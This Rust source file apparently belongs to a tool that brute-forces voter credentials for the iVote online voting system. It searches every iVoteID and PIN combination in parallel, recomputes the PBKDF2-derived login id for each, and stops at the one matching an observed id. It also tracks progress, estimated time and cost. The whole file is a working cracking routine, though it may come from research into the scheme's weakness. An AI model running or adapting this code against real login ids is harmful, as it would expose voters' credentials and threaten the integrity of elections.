//! Exhaustive search for the (iVoteID, PIN) behind an observed login id.
//!
//! Candidate index `i` maps to id number `i / 10^pin_digits` and PIN
//! `i % 10^pin_digits`: every PIN for the first id, then the next id.
//! Workers claim fixed-size units of consecutive indices from a shared
//! counter. A match lowers a shared `best` index, and a worker abandons its
//! unit once `best` is below where it is, checking at least every
//! [`CHECK_INTERVAL`] candidates. Since units are claimed in ascending
//! order, the lowest matching index wins whatever the worker count.

mod bench;
pub mod fast;

use std::fmt;
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use thiserror::Error;

use crate::crypto::kdf::{LOGIN_SALT, LOGIN_SUFFIX};
use crate::crypto::{Credentials, LoginId};

pub use bench::{benchmark, benchmark_with, extrapolate, BenchConfig, BenchReport, Extrapolation, DEFAULT_PRICE_PER_CORE_HOUR};

pub const CHECK_INTERVAL: u64 = 256;
pub const DEFAULT_UNIT_SIZE: u64 = 1024;
const B64_SHA256_LEN: usize = 44;

#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum CrackError {
    #[error("invalid keyspace: {0}")]
    Invalid(String),
    #[error("search space size overflows")]
    Overflow,
    #[error("not found after {tried} candidates")]
    NotFound { tried: u64 },
    #[error("deadline reached after {tried} candidates")]
    TimedOut { tried: u64 },
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum IdSpace {
    Fixed(String),
    All { id_digits: u32 },
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Keyspace {
    pub ids: IdSpace,
    pub pin_digits: u32,
    pub iterations: u32,
}

impl Keyspace {
    pub fn fixed(ivote_id: &str, pin_digits: u32, iterations: u32) -> Self {
        Self {
            ids: IdSpace::Fixed(ivote_id.to_owned()),
            pin_digits,
            iterations,
        }
    }

    pub fn all(id_digits: u32, pin_digits: u32, iterations: u32) -> Self {
        Self {
            ids: IdSpace::All { id_digits },
            pin_digits,
            iterations,
        }
    }

    pub fn validate(&self) -> Result<(), CrackError> {
        if self.pin_digits == 0 {
            return Err(CrackError::Invalid("pin_digits must be positive".into()));
        }
        if self.iterations == 0 {
            return Err(CrackError::Invalid("iterations must be positive".into()));
        }
        match &self.ids {
            IdSpace::Fixed(id) if id.is_empty() || !id.bytes().all(|b| b.is_ascii_digit()) => {
                Err(CrackError::Invalid(format!("fixed id {id:?} is not a decimal string")))
            }
            IdSpace::All { id_digits: 0 } => Err(CrackError::Invalid("id_digits must be positive".into())),
            _ => Ok(()),
        }
    }

    fn id_digits(&self) -> u32 {
        match &self.ids {
            IdSpace::Fixed(id) => id.len() as u32,
            IdSpace::All { id_digits } => *id_digits,
        }
    }

    fn pins(&self) -> Option<u64> {
        10u64.checked_pow(self.pin_digits)
    }

    /// Number of candidates, if it fits in `u64`.
    pub fn candidates(&self) -> Result<u64, CrackError> {
        let size = search_space_size(self)?;
        u64::try_from(size.candidates).map_err(|_| CrackError::Overflow)
    }

    pub fn candidate(&self, index: u64) -> Credentials {
        let pins = self.pins().expect("validated keyspace");
        let (id_index, pin) = (index / pins, index % pins);
        let pin = format!("{:0w$}", pin, w = self.pin_digits as usize);
        let id = match &self.ids {
            IdSpace::Fixed(id) => id.clone(),
            IdSpace::All { id_digits } => format!("{:0w$}", id_index, w = *id_digits as usize),
        };
        Credentials::with_lengths(&id, &pin, id.len(), pin.len()).expect("candidate is well formed")
    }
}

impl fmt::Display for Keyspace {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.ids {
            IdSpace::Fixed(id) => write!(f, "id {id}")?,
            IdSpace::All { id_digits } => write!(f, "all {id_digits}-digit ids")?,
        }
        write!(f, ", {}-digit PINs, {} iterations", self.pin_digits, self.iterations)
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct SpaceSize {
    pub ids: u128,
    pub pins: u128,
    pub candidates: u128,
    /// `candidates * iterations`.
    pub operations: u128,
    pub log2_operations: f64,
}

pub fn search_space_size(ks: &Keyspace) -> Result<SpaceSize, CrackError> {
    ks.validate()?;
    let ids = match &ks.ids {
        IdSpace::Fixed(_) => 1,
        IdSpace::All { id_digits } => 10u128.checked_pow(*id_digits).ok_or(CrackError::Overflow)?,
    };
    let pins = 10u128.checked_pow(ks.pin_digits).ok_or(CrackError::Overflow)?;
    let candidates = ids.checked_mul(pins).ok_or(CrackError::Overflow)?;
    let operations = candidates.checked_mul(ks.iterations as u128).ok_or(CrackError::Overflow)?;
    Ok(SpaceSize {
        ids,
        pins,
        candidates,
        operations,
        log2_operations: (operations as f64).log2(),
    })
}

/// A contiguous range `[start, end)` of candidate indices.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct WorkUnit {
    pub start: u64,
    pub end: u64,
}

impl WorkUnit {
    /// Unit number `k` of a space of `total` candidates cut into
    /// `unit_size` pieces; `None` past the end.
    pub fn nth(k: u64, unit_size: u64, total: u64) -> Option<Self> {
        let start = k.checked_mul(unit_size)?;
        (start < total).then(|| Self {
            start,
            end: start.saturating_add(unit_size).min(total),
        })
    }

    pub fn len(&self) -> u64 {
        self.end - self.start
    }

    pub fn is_empty(&self) -> bool {
        self.start == self.end
    }
}

pub fn partition(total: u64, unit_size: u64) -> Vec<WorkUnit> {
    assert!(unit_size > 0);
    (0..).map_while(|k| WorkUnit::nth(k, unit_size, total)).collect()
}

/// Reusable buffer holding `id,Base64(SHA256(pin)),voterid` for one
/// candidate at a time.
struct Candidates<'a> {
    ks: &'a Keyspace,
    pins: u64,
    id_len: usize,
    password: Vec<u8>,
    pin: Vec<u8>,
}

impl<'a> Candidates<'a> {
    fn new(ks: &'a Keyspace) -> Self {
        let id_len = ks.id_digits() as usize;
        let mut password = vec![b'0'; id_len];
        if let IdSpace::Fixed(id) = &ks.ids {
            password.copy_from_slice(id.as_bytes());
        }
        password.push(b',');
        password.extend_from_slice(&[b'='; B64_SHA256_LEN]);
        password.push(b',');
        password.extend_from_slice(LOGIN_SUFFIX.as_bytes());
        Self {
            ks,
            pins: ks.pins().expect("validated keyspace"),
            id_len,
            password,
            pin: vec![b'0'; ks.pin_digits as usize],
        }
    }

    fn key(&mut self, index: u64) -> [u8; 16] {
        let (id_index, pin) = (index / self.pins, index % self.pins);
        write_decimal(&mut self.pin, pin);
        if matches!(self.ks.ids, IdSpace::All { .. }) {
            write_decimal(&mut self.password[..self.id_len], id_index);
        }
        let digest = Sha256::digest(&self.pin);
        let b64 = &mut self.password[self.id_len + 1..self.id_len + 1 + B64_SHA256_LEN];
        STANDARD.encode_slice(digest, b64).expect("44 bytes fit a SHA-256 digest");
        fast::HmacSha1::new(&self.password).pbkdf2_block1(&LOGIN_SALT, self.ks.iterations)
    }
}

fn write_decimal(out: &mut [u8], mut v: u64) {
    for b in out.iter_mut().rev() {
        *b = b'0' + (v % 10) as u8;
        v /= 10;
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct Progress {
    pub tried: u64,
    pub total: u64,
    pub elapsed_secs: f64,
    /// Candidates per second so far.
    pub rate: f64,
    pub eta_secs: Option<f64>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CrackOptions {
    pub workers: usize,
    pub unit_size: u64,
    pub deadline: Option<Duration>,
    pub progress_every: Duration,
}

impl CrackOptions {
    pub fn with_workers(workers: usize) -> Self {
        Self {
            workers,
            ..Self::default()
        }
    }
}

impl Default for CrackOptions {
    fn default() -> Self {
        Self {
            workers: std::thread::available_parallelism().map_or(1, |n| n.get()),
            unit_size: DEFAULT_UNIT_SIZE,
            deadline: None,
            progress_every: Duration::from_millis(500),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CrackOutcome {
    pub creds: Credentials,
    pub index: u64,
    pub tried: u64,
    pub elapsed: Duration,
}

pub fn crack(target: &LoginId, ks: &Keyspace, workers: usize) -> Result<CrackOutcome, CrackError> {
    crack_with(target, ks, &CrackOptions::with_workers(workers), &mut |_| {})
}

pub fn crack_with(
    target: &LoginId,
    ks: &Keyspace,
    opts: &CrackOptions,
    progress: &mut dyn FnMut(&Progress),
) -> Result<CrackOutcome, CrackError> {
    let total = ks.candidates()?;
    let result = search(target, ks, total, opts, progress)?;
    match result.found {
        Some(index) => Ok(CrackOutcome {
            creds: ks.candidate(index),
            index,
            tried: result.tried,
            elapsed: result.elapsed,
        }),
        None if result.timed_out => Err(CrackError::TimedOut { tried: result.tried }),
        None => Err(CrackError::NotFound { tried: result.tried }),
    }
}

pub(crate) struct SearchResult {
    pub found: Option<u64>,
    pub tried: u64,
    pub timed_out: bool,
    pub elapsed: Duration,
}

/// Searches indices `0..limit` of `ks`.
pub(crate) fn search(
    target: &LoginId,
    ks: &Keyspace,
    limit: u64,
    opts: &CrackOptions,
    progress: &mut dyn FnMut(&Progress),
) -> Result<SearchResult, CrackError> {
    ks.validate()?;
    if opts.workers == 0 {
        return Err(CrackError::Invalid("workers must be at least 1".into()));
    }
    if opts.unit_size == 0 {
        return Err(CrackError::Invalid("unit_size must be positive".into()));
    }
    let target = target.to_bytes();
    let next_unit = AtomicU64::new(0);
    let best = AtomicU64::new(u64::MAX);
    let tried = AtomicU64::new(0);
    let stop = AtomicBool::new(false);
    let running = AtomicUsize::new(opts.workers);
    let started = Instant::now();
    let mut timed_out = false;

    std::thread::scope(|scope| {
        for _ in 0..opts.workers {
            scope.spawn(|| {
                let mut cands = Candidates::new(ks);
                'units: loop {
                    let k = next_unit.fetch_add(1, Ordering::Relaxed);
                    let Some(unit) = WorkUnit::nth(k, opts.unit_size, limit) else {
                        break;
                    };
                    if stop.load(Ordering::Relaxed) || unit.start > best.load(Ordering::Acquire) {
                        break;
                    }
                    let mut i = unit.start;
                    while i < unit.end {
                        let chunk_end = (i + CHECK_INTERVAL).min(unit.end);
                        let mut done = 0;
                        while i < chunk_end {
                            done += 1;
                            if cands.key(i) == target {
                                best.fetch_min(i, Ordering::AcqRel);
                                tried.fetch_add(done, Ordering::Relaxed);
                                continue 'units;
                            }
                            i += 1;
                        }
                        tried.fetch_add(done, Ordering::Relaxed);
                        if stop.load(Ordering::Relaxed) || best.load(Ordering::Acquire) < i {
                            break 'units;
                        }
                    }
                }
                running.fetch_sub(1, Ordering::AcqRel);
            });
        }

        let tick = opts.progress_every.min(Duration::from_millis(20)).max(Duration::from_millis(1));
        let mut last_report = Instant::now();
        while running.load(Ordering::Acquire) > 0 {
            std::thread::sleep(tick);
            let elapsed = started.elapsed();
            if opts.deadline.is_some_and(|d| elapsed >= d) && !stop.load(Ordering::Relaxed) {
                stop.store(true, Ordering::Relaxed);
                timed_out = true;
            }
            if last_report.elapsed() >= opts.progress_every {
                last_report = Instant::now();
                progress(&make_progress(tried.load(Ordering::Relaxed), limit, elapsed));
            }
        }
    });

    let elapsed = started.elapsed();
    let tried = tried.load(Ordering::Relaxed);
    progress(&make_progress(tried, limit, elapsed));
    let found = Some(best.load(Ordering::Acquire)).filter(|&b| b != u64::MAX);
    Ok(SearchResult {
        found,
        tried,
        timed_out: timed_out && found.is_none(),
        elapsed,
    })
}

fn make_progress(tried: u64, total: u64, elapsed: Duration) -> Progress {
    let secs = elapsed.as_secs_f64();
    let rate = if secs > 0.0 { tried as f64 / secs } else { 0.0 };
    Progress {
        tried,
        total,
        elapsed_secs: secs,
        rate,
        eta_secs: (rate > 0.0).then(|| total.saturating_sub(tried) as f64 / rate),
    }
}
